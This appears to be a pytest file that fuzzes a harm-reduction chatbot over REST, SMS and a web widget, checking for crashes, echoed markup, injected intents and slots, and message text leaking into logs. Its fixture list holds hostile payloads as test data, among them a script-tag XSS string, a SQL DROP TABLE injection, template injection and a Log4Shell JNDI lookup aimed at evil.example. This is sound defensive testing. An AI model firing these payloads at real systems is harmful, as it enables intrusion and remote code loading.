"""Hostile input against the running bot over REST, the widget's socket.io and signed SMS: no 5xx,
no empty reply, no hang, no markup echoed, no injected intent or slot, and no message text in the logs."""

from __future__ import annotations

import json
import random
import time
import uuid

import pytest
import requests

from tests.conftest import WIDGET_DEMO_ORIGIN, run_async
from tests.test_sms import new_phone, post, texts

# Every hostile message carries this, so the logs can be searched for any trace of what people typed.
CANARY = "zqx" + uuid.uuid4().hex[:10]
HOSTILE = [
    "",
    " ",
    "\x00\x00",
    "narcan ohio " * 8300,
    "a" * 5000,
    "\u202eesrever ni si siht",
    "مرحبا هل النالوكسون مجاني",
    "🙂🙂🙂🔥💊",
    "<script>alert(1)</script>",
    "<b>bold</b> narcan",
    "**markdown** _here_ [link](http://evil.example)",
    "'; DROP TABLE profiles; --",
    "1 OR 1=1",
    '{"sender": "x", "message": "y"}',
    "[1, 2, 3]",
    '/inform_location{"state":"ZZ"}',
    '/inform_location{"state": "OH"}',
    "/restart",
    "/session_start",
    "/action_emergency_response",
    "//ask_naloxone",
    "/ask_naloxone",
    "/nonexistent_intent",
    "\\u0000",
    "%00%0a",
    "\r\n\r\n",
    "ohio" * 1000,
    "NaN",
    "null",
    "undefined",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
]


def _generated(count: int, seed: int = 7) -> list[str]:
    """Random mixtures of the hostile pieces with ordinary questions."""
    rng = random.Random(seed)
    ordinary = ["narcan in ohio", "strips?", "hello", "methadone near 44102", "43215", "help"]
    pieces = HOSTILE + ordinary + ["\u0301" * 50, "\ufeff", "\x1b[31m", "\U0001f9ea" * 30]
    return [
        "".join(rng.choice(pieces) + rng.choice(["", " ", "\n"]) for _ in range(rng.randint(1, 4)))
        for _ in range(count)
    ]


CASES = HOSTILE + _generated(240)


def _rest(bot, body, timeout=60):
    return requests.post(
        f"{bot['url']}/webhooks/rest/webhook", data=body, headers={"Content-Type": "application/json"}, timeout=timeout
    )


def test_hostile_messages_over_rest(bot_server):
    slowest = 0.0
    for number, text in enumerate(CASES):
        sender = f"hostile-{number}-{uuid.uuid4().hex[:8]}"
        start = time.monotonic()
        reply = _rest(bot_server, json.dumps({"sender": sender, "message": f"{text} {CANARY}"}))
        slowest = max(slowest, time.monotonic() - start)
        assert reply.status_code == 200, (text[:60], reply.status_code)
        messages = reply.json()
        assert any(m.get("text") for m in messages) and all(m.get("text") or m.get("custom") for m in messages), text[
            :60
        ]
        joined = " ".join(m.get("text", "") for m in messages)
        assert "<script" not in joined and "<b>" not in joined and CANARY not in joined
    assert slowest < 30


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not json",
        b"[]",
        b'"text"',
        b'{"message": "hi"}',
        b'{"sender": 5, "message": "hi"}',
        b'{"sender": "x", "message": 5}',
        b'{"sender": "' + b"s" * 100_000 + b'", "message": "hi"}',
        b"\xff\xfe\x00invalid utf-8",
        b'{"sender": "x", "message": "\xff\xfe"}',
    ],
)
def test_bad_rest_bodies_get_a_clear_400_never_a_500(bot_server, body):
    reply = _rest(bot_server, body)
    assert reply.status_code == 400 and "error" in reply.json()


def test_injected_intents_and_slots_are_read_as_words(bot_server):
    sender = uuid.uuid4().hex
    _rest(bot_server, json.dumps({"sender": sender, "message": '/inform_location{"state":"ZZ"}'}))
    tracker = requests.get(
        f"{bot_server['url']}/conversations/{sender}/tracker", params={"token": bot_server["token"]}, timeout=30
    ).json()
    assert tracker["slots"]["state"] != "ZZ"
    assert tracker["latest_message"]["intent"]["name"] != "inform_location" or not tracker["latest_message"]["entities"]
    follow_up = _rest(bot_server, json.dumps({"sender": sender, "message": "narcan in ohio"})).json()
    assert follow_up and follow_up[0]["text"].startswith("Ohio")


def test_a_new_conversation_read_through_the_api_does_not_break_the_next_message(bot_server):
    sender = uuid.uuid4().hex
    api = requests.get(
        f"{bot_server['url']}/conversations/{sender}/tracker", params={"token": bot_server["token"]}, timeout=30
    )
    assert api.status_code == 200
    assert _rest(bot_server, json.dumps({"sender": sender, "message": "hello"})).json()


def test_hostile_messages_over_sms(bot_server):
    for text in HOSTILE[:20] + _generated(30, seed=11):
        response = post(bot_server, f"{text[:1500]} {CANARY}", new_phone())
        assert response.status_code == 200
        replies = texts(response)
        assert replies and CANARY not in " ".join(replies)


def test_a_replayed_sms_is_answered_once(bot_server):
    form_extra = {"MessageSid": "SM" + uuid.uuid4().hex}
    phone = new_phone()
    assert texts(post(bot_server, "narcan in ohio", phone, **form_extra))
    assert texts(post(bot_server, "narcan in ohio", phone, **form_extra)) == []


def test_hostile_messages_over_the_widget(bot_server):
    from tests.test_widget_channel import Listener

    async def scenario():
        listener = Listener()
        await listener.client.connect(bot_server["url"], headers={"Origin": WIDGET_DEMO_ORIGIN}, transports=["polling"])
        await listener.client.emit("session_request", {"session_id": str(uuid.uuid4())})
        await listener.next()
        answered = []
        for text in HOSTILE[:12]:
            await listener.client.emit("user_uttered", {"message": f"{text} {CANARY}"})
            event, reply = await listener.next(timeout=30)
            answered.append((event, reply.get("text", "")))
            while not listener.events.empty():  # a reply may come in more than one message
                listener.events.get_nowait()
        for bad in (None, 5, ["x"], {"message": None}, {"message": {"nested": 1}}):
            await listener.client.emit("user_uttered", bad)
        await listener.client.emit("user_uttered", {"message": "hello"})
        event, reply = await listener.next(timeout=30)
        await listener.client.disconnect()
        return answered, reply

    answered, after = run_async(scenario())
    assert all(event == "bot_uttered" and text and CANARY not in text for event, text in answered)
    assert after["text"]  # the socket still works after malformed events


def test_no_message_text_reaches_the_logs(bot_server):
    """Run last in this file: every hostile message above carried the canary."""
    logs = "".join(path.read_text(errors="replace") for path in bot_server["logs"].glob("*.log"))
    assert CANARY not in logs
